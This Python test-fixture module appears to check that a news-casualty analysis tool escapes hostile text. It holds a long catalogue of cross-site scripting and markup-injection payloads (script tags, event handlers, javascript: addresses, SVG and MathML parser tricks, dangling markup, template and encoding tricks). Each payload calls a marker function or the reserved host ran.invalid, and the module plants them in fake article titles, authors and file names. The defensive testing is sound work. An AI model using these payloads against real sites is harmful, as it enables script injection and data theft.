"""Words that are more than words where a page or a chart takes them for markup, and articles that are full of them.

Each payload calls ``ran(number)`` or asks for an address at ``ran.invalid`` when it is taken for what it is not.
``live`` gives it its number; ``tamed`` gives harmless words of the same shape.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from functools import cache
from pathlib import Path

from samples import claim

from analysis.folder import Readings
from analysis.models import PassedOver, Reading, Silence, Span

HOST = "ran.invalid"

# by technique; RAN is the call, URL the address
PAYLOADS: dict[str, str] = {
    # scripts
    "script": "<script>RAN</script>",
    "script, mixed case": "<ScRiPt >RAN</sCrIpT >",
    "script from an address": "<script src=URL></script>",
    "script after a slash": "<script/x>RAN</script\t>",
    "script in a script": "<scr<script>ipt>RAN</scr</script>ipt>",
    "script left open": "<script>RAN//",
    "module": '<script type="module">RAN</script>',
    "script after a closed title": "</title><script>RAN</script>",
    "script after a closed textarea": "</textarea></option></select><script>RAN</script>",
    "script after a closed style": "</style></noscript></xmp><script>RAN</script>",
    "script after a closed script": "</script><script>RAN</script>",
    "script after a closed cell": "</td></tr></table></div><script>RAN</script>",
    # handlers
    "picture": "<img src=x onerror=RAN>",
    "picture, no blanks": "<img/src=x/onerror=RAN>",
    "picture, quoted": '"><img src="x" onerror="RAN">',
    "picture, single quotes": "'><img src='x' onerror='RAN'>",
    "picture, back ticks": "`><img src=x onerror=`RAN`>",
    "picture, line breaks": "<img\nsrc=x\nonerror\n=\nRAN>",
    "picture, entities": "<img src=x onerror=&#114;&#x61;n&#40;0&#41;>",
    "picture, doubled bracket": "<<img src=x onerror=RAN>>",
    "picture left open": "<img src=x onerror=RAN //",
    "image": "<image src=x onerror=RAN>",
    "details": "<details open ontoggle=RAN>40</details>",
    "field": "<input autofocus onfocus=RAN>",
    "select": "<select autofocus onfocus=RAN><option>40</option></select>",
    "body": "<body onload=RAN onpageshow=RAN>",
    "marquee": "<marquee onstart=RAN>40</marquee>",
    "video": "<video src=x onerror=RAN></video><audio src=x onerror=RAN>",
    "source": "<video><source onerror=RAN src=x></video>",
    "style load": "<style onload=RAN></style>",
    "animation": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=RAN>40</b>",
    "pointer": "<b onmouseover=RAN onpointerenter=RAN style=position:fixed;inset:0>40</b>",
    # attributes that a quote would leave
    "attribute, double quote": '" autofocus onfocus=RAN onmouseover=RAN x="',
    "attribute, single quote": "' autofocus onfocus=RAN onmouseover=RAN x='",
    "attribute, blank": "x onerror=RAN onmouseover=RAN src=x ",
    "attribute, closed": '"/><svg onload=RAN>',
    "attribute, entity quote": "&quot;><img src=x onerror=RAN>",
    "attribute, back slash": '\\"><img src=x onerror=RAN>',
    # svg, mathml, and markup that changes as it is parsed again
    "svg": "<svg onload=RAN>",
    "svg script": "<svg><script>RAN</script></svg>",
    "svg animate": "<svg><animate onbegin=RAN attributeName=x dur=1s></svg>",
    "svg link": "<svg><a xlink:href=javascript:RAN><text y=20>40</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=RAN />#x'/></svg>",
    "svg foreign": "<svg><foreignObject><img src=x onerror=RAN></foreignObject></svg>",
    "svg style": "<svg></p><style><a id='</style><img src=x onerror=RAN>'>",
    "mathml": "<math><maction actiontype=statusline xlink:href=javascript:RAN>40</maction></math>",
    "mathml text": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=RAN>'>",
    "form in a form": "<form><math><mtext></form><form><mglyph><svg><style><path id='</style><img onerror=RAN src>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=RAN>'>",
    "template": "<template><img src=x onerror=RAN></template><img src=x onerror=RAN>",
    "entities, once": "&lt;img src=x onerror=RAN&gt;",
    "entities, twice": "&amp;lt;script&amp;gt;RAN&amp;lt;/script&amp;gt;",
    "entities, numbers": "&#60;script&#62;RAN&#60;/script&#62;&#x3c;img src=x onerror=RAN&#x3e;",
    # addresses
    "link": "<a href=javascript:RAN autofocus>40</a>",
    "address": "javascript:RAN",
    "address, mixed case": "JaVaScRiPt:RAN",
    "address, broken by a tab": "java\tscript:RAN",
    "address, leading control": "\x01javascript:RAN",
    "address, entity": "javascript&colon;RAN",
    "address, comment": "javascript://example.org/%0aRAN",
    "address, http in a query": "javascript:RAN//https://example.org",
    "address that ends a quote": 'https://example.org/"onmouseover="RAN"x="',
    "address, vbscript": "vbscript:RAN",
    "data page": "data:text/html,<script>RAN</script>",
    "data page in base64": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDApPC9zY3JpcHQ+",
    "frame": "<iframe src=javascript:parent.RAN></iframe>",
    "frame from an address": "<iframe src=URL></iframe>",
    "frame with a page": "<iframe srcdoc='<script>parent.RAN</script>'></iframe>",
    "object": "<object data=URL></object><embed src=URL>",
    "object, data": "<object data='data:text/html,<script>RAN</script>'></object>",
    "base": "<base href=https://ran.invalid/><img src=base>",
    "refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "form": "<form action=URL><button autofocus formaction=javascript:RAN>40</button></form>",
    "import": "<link rel=stylesheet href=URL><link rel=prefetch href=URL>",
    "picture from an address": "<img src=URL>",
    # css
    "css address": "<div style='background:url(URL)'>40</div>",
    "css import": "<style>@import 'URL';</style>",
    "css in a quote": "';}</style><style>body{background:url(URL)}",
    # dangling markup
    "dangling picture": "<img src='URL?",
    "dangling link": '<a href="URL?',
    # comments and sections
    "comment": "--><img src=x onerror=RAN><!--",
    "comment, short": "<!--><img src=x onerror=RAN>-->",
    "section": "]]><img src=x onerror=RAN><![CDATA[",
    "instruction": "<?xml version='1.0'?><?xml-stylesheet href='URL'?><!DOCTYPE x [<!ENTITY y SYSTEM 'URL'>]>&y;",
    # templates
    "braces": "{{constructor.constructor('RAN')()}} ${RAN} <%= RAN %> #{RAN}",
    # letters
    "null bytes": "<scr\x00ipt>RAN</scr\x00ipt><img\x00src=x\x00onerror=RAN>",
    "form feed": "<img\x0csrc=x\x0conerror=RAN>",
    "full width": "＜script＞RAN＜/script＞",
    "bound letters": "<\u017fcript>RAN</\u017fcript>\u2028<img src=x onerror=RAN>",
    "right to left": "\u202e<script>RAN</script>\u202c",
    "half a letter": "\ud83d<img src=x onerror=RAN>\udc00",
    "bytes of utf-7": "+ADw-script+AD4-RAN+ADw-/script+AD4-",
    "overlong": "\xc0\xbcscript\xc0\xbeRAN",
    "escapes of a terminal": "\x1b]8;;javascript:RAN\x07forty\x1b]8;;\x07 \x1b[31m<img src=x onerror=RAN>",
    # markdown
    "markdown link": "[40](javascript:RAN)",
    "markdown picture": "![40](URL) ![x](x\"onerror=\"RAN)",
    "markdown reference": "[40][x] [x]:javascript:RAN",
    "markdown address": "<javascript:RAN>",
    "markdown code": "```html\n<img src=x onerror=RAN>\n```",
    "markdown heading": "\n\n# <img src=x onerror=RAN>\n\n",
    # mathematics, for MathJax and for matplotlib
    "maths link": "$\\href{javascript:RAN}{40}$",
    "maths html": "$$\\class{x}{\\style{background:url(URL)}{40}} \\require{html}$$",
    "maths in brackets": "\\(\\unicode{<img src=x onerror=RAN>}\\) \\[\\href{javascript:RAN}{40}\\]",
    "maths that breaks": "$\\frac{$ $\\notacommand$ $^$ $_{$ \\$ $x",
    "maths of money": "between $5 million and $10 million",
    "maths environment": "\\begin{equation}\\href{javascript:RAN}{40}\\end{equation}",
    "maths without end": "$\\def\\x{\\x\\x}\\x$",
}  # fmt: skip


def live(number: int, text: str) -> str:
    """The payload with its own number in its call and in its address."""
    return text.replace("RAN", f"ran({number})").replace("URL", f"https://{HOST}/{number}")


LIVE = [live(number, text) for number, text in enumerate(PAYLOADS.values())]


def tamed(text: str) -> str:
    """Harmless words of the same shape: as long, and in the same places blank."""
    return re.sub(r"[^A-Za-z0-9\s]", "x", text)


TAMED = [tamed(text) for text in LIVE]


def readings_of(words: list[str]) -> Readings:
    """Readings made to measure: each of the words is an article's title, outlet, author, address and name.

    In each article the words are counted, speak, are silent, passed over, and the place and the time; on each the
    sources are in conflict, and one of them moves its figure.
    """
    return Readings(tuple(reading for number, text in enumerate(words) for reading in _three(number, text)))


def _three(number: int, text: str) -> list[Reading]:
    told = ((100, "A", 4), (5000, "B", 4), (300, "A", 6))
    return [_reading(f"{number}-{at} {text}", text, *one) for at, one in enumerate(told)]


def _reading(name: str, text: str, figure: int, who: str, day: int) -> Reading:
    made = claim(
        figure,
        counted=text,
        subject=f"killed: Northland soldiers {text}",
        source=f"{text} {who}",
        outlet=text,
        published=date(2024, 3, day),
        name=name,
        place=text if figure == 300 else None,
        date_text=text,
        said_on=date(2024, 3, day),
        said_text=text,
        actor=text,
    )
    article = replace(made.article, title=text, author=text, url=text, outlet=text)
    made = replace(made, article=article, reason=text)
    mention = made.source_mention
    about = Span(made.amount.span.end + 1, made.amount.span.end + 1 + len(text))
    silence = Silence(article, about, made.sentence, "gives no figure", f"{text} {who}", mention, text, text, text)
    return Reading(article, (made,), (PassedOver(article, about, "name", unit=text, counted=text),), (silence,))


def write_articles(folder: Path, words: list[str]) -> None:
    """Articles of some of the words as files of text, which are read as any others are, the words in their names too.

    Besides, files that cannot be read, and files of no known kind. ``readings_of`` has all the words.
    """
    folder.mkdir()
    for number, text in list(enumerate(words))[::3]:
        line = " ".join(text.split()).encode("utf-8", "replace").decode().replace("\x00", "")
        head = f"Outlet: {line}\nPublished: 2024-03-04\nTitle: {line}\nAuthor: {line}\nUrl: {line}\n\n"
        said = (
            f"At least {number + 40} people were killed, {line} said. {line} told reporters: “There were 12 {line}.”\n"
        )
        name = f"{number}{_file_name(text)}"
        (folder / f"{name}.txt").write_text(head + said, encoding="utf-8")
        if number % 2 == 0:
            (folder / f"{name}-broken.txt").write_bytes(b"\xff\xfe\x00 no text \x80")
            (folder / f"{name}.unknown").write_bytes(b"")


def _file_name(text: str) -> str:
    return re.sub(r"[/\x00]", "\u2215", text).encode("utf-8", "replace")[:120].decode("utf-8", "ignore")


def read_with(words: list[str], read_folder: Callable[..., Readings]) -> Callable[..., Readings]:
    """``read_folder`` that gives the readings of the words beside what the folder holds."""

    @cache
    def read(*paths: Path | str, **options: bool) -> Readings:
        found = read_folder(*paths, **options)
        return replace(found, readings=found.readings + readings_of(words).readings)

    return read
